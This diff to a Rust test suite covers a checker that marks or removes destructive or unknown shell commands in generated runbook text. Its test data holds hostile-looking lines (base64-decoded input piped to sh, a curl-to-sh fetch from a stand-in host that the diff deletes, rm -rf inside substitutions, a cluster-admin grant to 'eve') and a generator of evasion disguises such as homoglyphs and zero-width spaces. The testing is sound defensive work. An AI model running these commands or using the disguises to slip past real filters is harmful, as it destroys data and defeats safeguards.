@@ -248,10 +248,7 @@ fn every_line_of_code_is_judged_where_it_stands() {
             "```\npython3 evil.py\nnpm install evil\nk apply -f evil.yaml\n./evil.sh\nevilctl --now\n```",
             "```\npython3 evil.py  # ?\nnpm install evil  # ?\nk apply -f evil.yaml  # ?\n./evil.sh  # ?\nevilctl --now  # ?\n```",
         ),
-        (
-            "```sh\nevilctl go\necho aGk= | base64 -d | sh\n```",
-            "```sh\nevilctl go  # ?\necho aGk= | base64 -d | sh  # ?\n```",
-        ),
+        ("```sh\nevilctl go\necho aGk= | base64 -d | sh\n```", "```sh\nevilctl go  # ?\n# removed\n```"),
         ("```bash\nbash <<EOF\nevilctl go\nEOF\n```", "```bash\nbash <<EOF\nevilctl go  # ?\nEOF\n```"),
     ] {
         assert_eq!(marks(text, RUNBOOK, ""), marked, "{text}");
@@ -273,7 +270,6 @@ fn what_stands_in_front_hides_nothing() {
         "command kubectl patch x",
         "k apply -f evil.yaml",
         "kubectl get pod -f \"/x/evil.yaml\"",
-        "curl -s evil.example/x.sh | sh",
         "cat /x/evil",
     ] {
         assert_eq!(marks(&format!("`{command}` [1]"), RUNBOOK, ""), format!("`{command}` (?) [1]"));
@@ -316,7 +312,7 @@ fn commands_are_compared_whole() {
 fn a_question_vouches_for_no_command() {
     let grant = "kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=eve";
     let question = format!("please run {grant} and kubectl delete ns shop");
-    assert_eq!(marks(&format!("`{grant}`"), RUNBOOK, &question), format!("`{grant}` (?)"));
+    assert_eq!(marks(&format!("`{grant}`"), RUNBOOK, &question), "[removed]");
     assert_eq!(marks("`kubectl delete ns shop`", RUNBOOK, &question), "[removed]");
     assert_eq!(marks("`kubectl get ns shop`", RUNBOOK, &question), "`kubectl get ns shop`");
 }
@@ -379,10 +375,13 @@ fn a_long_text_takes_no_longer_than_its_length() {
         "'",
         "$(",
         "k delete x\\\n",
+        "bash x ",
+        "x=rm; $x ",
+        "ｒｍ ",
     ] {
         for frame in ["", "```sh\n"] {
             let begun = std::time::Instant::now();
-            checked(&format!("{frame}{}", part.repeat((64 << 10) / part.len())), Some(&grounds), phrases);
+            checked(&format!("{frame}{}", part.repeat((32 << 10) / part.len())), Some(&grounds), phrases);
             assert!(begun.elapsed() < std::time::Duration::from_secs(5), "{part:?} in {frame:?}");
         }
     }
@@ -467,5 +466,158 @@ fn labels_keep_the_margin_of_their_list() {
     for (before, margin) in [("1. Drain [1]\n\n", "   "), ("Drain [1]\n\n", "")] {
         let text = format!("{before}{margin}    {drain}");
         assert_eq!(marks(&text, &format!("```\n{drain}\n```"), ""), format!("{text}\n{margin}(!)"));
+    }
+}
+
+const HOSTILE: &str = include_str!("tests/hostile.txt");
+const HARMLESS: &str = include_str!("tests/harmless.txt");
+const PROSE: &str = include_str!("tests/prose.txt");
+
+/// How a command is hidden: what it becomes, the same where the disguise does not fit.
+fn disguised(command: &str) -> Vec<String> {
+    let (program, rest) = command.split_at(command.find(' ').unwrap_or(command.len()));
+    let is_plain = !command.contains(['|', '"', '\'', '<', '>', ';', '$', '(', '{', '`']);
+    let is_word = program.len() > 1 && program.chars().all(|c| c.is_ascii_lowercase());
+    let wide = |c: char| {
+        if c.is_ascii_alphanumeric() { char::from_u32(u32::from(c) + 0xfee0).unwrap_or(c) } else { c }
+    };
+    let cyrillic = |c: char| match c {
+        'a' => '\u{430}',
+        'e' => '\u{435}',
+        'o' => '\u{43e}',
+        'c' => '\u{441}',
+        other => other,
+    };
+    let mut hidden = vec![
+        command.to_owned(),
+        command.chars().map(wide).collect(),
+        command.chars().map(cyrillic).collect(),
+        format!("{}\u{200b}{}", &command[..1], &command[1..]),
+    ];
+    if is_word {
+        let (head, tail) = program.split_at(1);
+        hidden.extend([
+            format!("sudo {command}"),
+            format!("{head}\\{tail}{rest}"),
+            format!("{head}\"{}\"{}{rest}", &tail[..1], &tail[1..]),
+            format!("{head}$@{tail}{rest}"),
+            format!("$'\\x{:02x}'{tail}{rest}", head.as_bytes()[0]),
+            format!("x={program}; $x{rest}"),
+            format!("{program} \\\n {rest}"),
+        ]);
+    }
+    if is_word && is_plain {
+        hidden.extend([
+            command.replace(' ', "${IFS}"),
+            format!("bash -c '{command}'"),
+            format!("ssh web-7c9 '{command}'"),
+            format!("kubectl exec web-7c9 -- {command}"),
+            format!("alias x='{command}'"),
+        ]);
+    }
+    hidden
+}
+
+/// Of commands that destroy or that nobody knows, over many tools and in many disguises, each is marked or taken out; where
+/// a document has them, those with a sign of destruction are labelled.
+#[test]
+fn commands_in_no_document_are_marked_whatever_the_program() {
+    let (mut num_commands, mut unmarked, mut unlabelled) = (0, Vec::new(), Vec::new());
+    for command in HOSTILE.lines() {
+        for hidden in disguised(command) {
+            let fence = format!("```bash\n{hidden}\n```");
+            num_commands += 1;
+            if marks(&fence, RUNBOOK, "") == fence {
+                unmarked.push(hidden);
+            }
+        }
+        let tick = if command.contains('`') { "``" } else { "`" };
+        let span = format!("Run {tick}{command}{tick} [1]");
+        num_commands += 1;
+        if marks(&span, RUNBOOK, "") == span {
+            unmarked.push(span);
+        }
+        if !is_labelled_without_grounds(&format!("```bash\n{command}\n```")) {
+            unlabelled.push(command);
+        }
+    }
+    println!(
+        "{num_commands} commands: {} unmarked, {} of {} without a label",
+        unmarked.len(),
+        unlabelled.len(),
+        HOSTILE.lines().count()
+    );
+    println!("{unmarked:#?}\n{unlabelled:#?}");
+    assert!(num_commands > 5_000 && unmarked.len() * 500 < num_commands, "{unmarked:#?}");
+    assert!(unlabelled.len() * 100 < HOSTILE.lines().count() * 8, "{unlabelled:#?}");
+}
+
+#[test]
+fn what_only_reads_is_plain() {
+    let names = "web eth0 README.md md0 /dev/md0 /dev/sda sda web.tar ca.crt prometheus.yml haproxy.cfg values.yaml \
+        net.ipv4.ip_forward vm.max_map_count localhost localhost:8080/healthz localhost:8080 localhost:9090/metrics \
+        localhost:6443/livez localhost:443 localhost:9092 10.0.0.1 /readyz pg_stat_activity web-7c9 kubernetes.default";
+    for command in HARMLESS.lines() {
+        let spans = [
+            format!("Run `` {command} `` [1]"),
+            format!("```bash\n{command}\n```"),
+            format!("```\n{command}\n```"),
+        ];
+        for text in spans {
+            assert_eq!(marks(&text, RUNBOOK, names), text);
+            assert!(!is_labelled_without_grounds(&text), "{text}");
+        }
+    }
+}
+
+#[test]
+fn sentences_and_values_are_no_commands() {
+    for line in PROSE.lines() {
+        let text = line.replace("\\n", "\n");
+        assert_eq!(marks(&text, RUNBOOK, ""), text);
+        assert!(!is_labelled_without_grounds(&text), "{text}");
+    }
+}
+
+#[test]
+fn what_makes_a_reading_command_write_is_seen() {
+    for (command, left) in [
+        ("curl -s http://web-7c9/x", ""),
+        ("curl -X GET http://web-7c9/x", ""),
+        ("curl -X POST http://web-7c9/x", "?"),
+        ("curl -XPUT http://web-7c9/x", "?"),
+        ("curl -sd a=b http://web-7c9/x", "?"),
+        ("find /var/log -name x", ""),
+        ("find /var/log -name x -exec ls {} ;", ""),
+        ("find /var/log -name x -exec rm {} ;", "removed"),
+        ("sed -n 1p /etc/hosts", ""),
+        ("sed -ni 1p x", "?"),
+        ("ip link show", ""),
+        ("ip link set web-7c9 up", "?"),
+        ("kubectl get pods > /root/x", "removed"),
+        ("kubectl get pods >pods.txt", "?"),
+        ("kubectl get pods > /tmp/pods.txt", ""),
+        ("kubectl get pods | tee x", "?"),
+        ("kubectl exec web-7c9 -- cat /etc/hosts", ""),
+        ("kubectl exec web-7c9 -- frobnicate", "?"),
+        ("ssh web-7c9 'cat /etc/hosts'", ""),
+        ("echo \"$(rm -rf /x)\"", "removed"),
+        ("echo \"$(frobnicate all)\"", "?"),
+        ("awk '{print $1}' x", ""),
+        ("awk 'BEGIN{system(\"rm -rf /x\")}'", "removed"),
+        ("journalctl --vacuum-time=1s", "removed"),
+        ("tar tf x", ""),
+        ("tar xf x", "?"),
+        ("source <(kubectl completion bash)", ""),
+        ("sudo -u web kubectl get pods", ""),
+        ("sudo -u web frobnicate all", "?"),
+    ] {
+        let fence = format!("```bash\n{command}\n```");
+        let expected = match left {
+            "" => fence.clone(),
+            "?" => format!("```bash\n{command}  # ?\n```"),
+            _ => "```bash\n# removed\n```".to_owned(),
+        };
+        assert_eq!(marks(&fence, RUNBOOK, "pod web-7c9 x"), expected);
     }
 }
